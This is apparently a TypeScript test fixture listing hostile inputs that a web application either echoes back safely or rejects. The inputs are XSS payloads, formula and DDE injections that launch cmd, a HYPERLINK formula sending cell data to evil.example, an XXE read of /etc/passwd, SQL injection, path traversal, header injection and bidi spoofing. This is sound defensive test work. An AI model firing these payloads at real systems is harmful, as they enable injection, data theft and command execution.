/** A text that has broken other software, and what becomes of it at our doors. */
export interface HostileText {
  readonly name: string;
  readonly text: string;
  /** `kept`: comes back character by character wherever it is shown. `refused`: holds what nobody sees. */
  readonly fate: 'kept' | 'refused';
}

/** Whoever runs what stands in one of these calls this on the page. */
export const TRAP = 'pledgeTrapped';
/** A host that no page of ours has business with. */
export const FOREIGN_HOST = 'evil.example';

const kept = (name: string, text: string): HostileText => ({ name, text, fate: 'kept' });
const refused = (name: string, text: string): HostileText => ({ name, text, fate: 'refused' });

/** One corpus for every door and every way out. */
export const HOSTILE_TEXTS: readonly HostileText[] = [
  kept('a script', `<script>window.${TRAP}=1</script>`),
  kept('a picture that fails', `<img src="https://${FOREIGN_HOST}/x.png" onerror="${TRAP}=1">`),
  kept('a way out of an attribute', `" onmouseover="${TRAP}=1" autofocus onfocus='${TRAP}=1' x="`),
  kept('a way out of a tag', `</title></textarea></style></script><svg/onload=${TRAP}=1>`),
  kept('an address that is a program', `javascript:window.${TRAP}=1//`),
  kept('an address that is a page', `data:text/html,<script>opener.${TRAP}=1</script>`),
  kept('a link as Markdown', `[打开](javascript:${TRAP}=1) ![x](https://${FOREIGN_HOST}/x.png)`),
  kept('braces of a template', `{{constructor.constructor('${TRAP}=1')()}} \${${TRAP}=1} #{7*7} <%= 7*7 %>`),
  kept('a formula', `=HYPERLINK("https://${FOREIGN_HOST}/?"&A1,"点击")`),
  kept('a formula by plus', '+1+1|"calc"!A0'),
  kept('a formula by minus', '-2+3+cmd|" /C calc"!A0'),
  kept('a formula by at', '@SUM(1+1)*cmd|" /C calc"!A0'),
  kept('a formula behind a tab', 'x\t=1+1'),
  kept('a formula in full width', '＝１＋１'),
  kept('code of the typesetter', '#eval("1+1") #read("/etc/passwd") #image("x.png") #sys.inputs'),
  kept('markup of the typesetter', '$ sum_(i=1)^n i $ *粗* _斜_ `码` = 标题 @ref <label> \\ ~ // /* */'),
  kept('backslashes', 'C:\\temp\\new\\u0041 \\n \\\\'),
  kept('entities', '&lt;b&gt; &#x3c;script&#x3e; &amp;amp; ]]> <!-- --> <?xml version="1.0"?>'),
  kept('an entity of XML', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;'),
  kept(
    'a field of a word processor',
    '{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" } <w:instrText>INCLUDETEXT</w:instrText>',
  ),
  kept('SQL', "'; drop table pledge.event; --"),
  kept('names of members', '__proto__ constructor toString'),
  kept('marks of printf', '%s%n%x %1$s'),
  kept('a header behind a line end', `现象\r\nBcc: everyone@${FOREIGN_HOST}\r\nContent-Type: text/html\r\n\r\n<b>x</b>`),
  kept('the end of a mail', '第一行\n.\nMAIL FROM:<x@y.example>\nFrom 前一行'),
  kept('a way up', '../../../../etc/passwd'),
  kept('a number as phones copy it', '\u202d+86 10 0000 0004\u202c'),
  kept('an isolate that does not end', '说明\u2066abc'),
  kept('letters without width', 'ad\u200bm\u200cin\u200d\ufeff\u2060'),
  kept('Arabic and Hebrew', 'مرحبا 123 שלום (abc)'),
  kept('a heap of marks', `山${'\u0301'.repeat(1_000)}`),
  kept('a word without end', 'x'.repeat(500)),
  kept('a family', '👨‍👩‍👧‍👦'.repeat(20)),
  kept('halves at an edge', `${'长'.repeat(59)}😀😀`),
  kept('line ends of every kind', 'a\r\nb\nc\u2028d\u2029e'),
  refused('a null', 'a\u0000b'),
  refused('half a character', 'a\ud800b'),
  refused('the other half', '\udc00'),
  refused('an escape sequence', '\u001b[2J\u001b]0;owned\u0007'),
  refused('a backspace', 'abc\u0008\u0008\u0008xyz'),
  refused('an escape in one character', '\u009b31m'),
  refused('a turned reading direction', '文件\u202egnp.exe'),
  refused('an embedding that turns', '\u202babc'),
  refused('an isolate that turns', '说明\u2067abc'),
  refused('a place that is no character', 'a\uffffb'),
];
